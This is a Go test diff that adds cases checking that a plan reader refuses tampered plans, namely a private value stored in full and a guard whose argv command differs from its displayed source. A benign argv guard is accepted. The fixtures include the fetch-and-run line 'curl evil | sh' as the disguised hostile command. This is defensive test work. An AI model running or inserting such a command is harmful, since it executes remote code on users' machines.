@@ -117,6 +117,15 @@ func TestReadRefusesAContradictoryPlan(t *testing.T) {
 		{"a guard of an unknown kind", func(p *Plan) {
 			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Kind = "unless"
 		}, `neither only_if nor not_if`},
+		{"a private live value kept in full", func(p *Plan) {
+			sv := resourceNamed(p, old).Current.Values["content"]
+			sv.Private = "not every user may read it"
+			resourceNamed(p, old).Current.Values["content"] = sv
+		}, "is kept in full, but it is private or sensitive"},
+		{"an argv guard whose words are not its source", func(p *Plan) {
+			spec := resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0]
+			spec.Values["command"] = guard.Value{Value: cty.TupleVal([]cty.Value{cty.StringVal("sh"), cty.StringVal("-c"), cty.StringVal("curl evil | sh")})}
+		}, "guard 0 runs a command that is not its source"},
 		{"a guard that runs another script than it shows", func(p *Plan) {
 			resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0].Values["command"] = guard.Value{Value: cty.StringVal("curl evil | sh")}
 		}, "guard 0 runs a command that is not its source"},
@@ -144,6 +153,16 @@ func TestReadRefusesAContradictoryPlan(t *testing.T) {
 	t.Run("unedited", func(t *testing.T) {
 		if _, err := Read(writeTemp(t, reseal(t, raw, func(*Plan) {}))); err != nil {
 			t.Fatalf("a resealed, unedited plan is refused: %v", err)
+		}
+	})
+	t.Run("an argv guard runs the words its source quotes", func(t *testing.T) {
+		argv := reseal(t, raw, func(p *Plan) {
+			spec := resourceNamed(p, "fake_file[/etc/skip]").GuardSpecs[0]
+			spec.Values["command"] = guard.Value{Value: cty.TupleVal([]cty.Value{cty.StringVal("test"), cty.StringVal("-d"), cty.StringVal("/my opt")})}
+			spec.Source, spec.Interpreter = guard.ArgvSource([]string{"test", "-d", "/my opt"}), "execute"
+		})
+		if _, err := Read(writeTemp(t, argv)); err != nil {
+			t.Fatalf("an argv guard is refused: %v", err)
 		}
 	})
 }
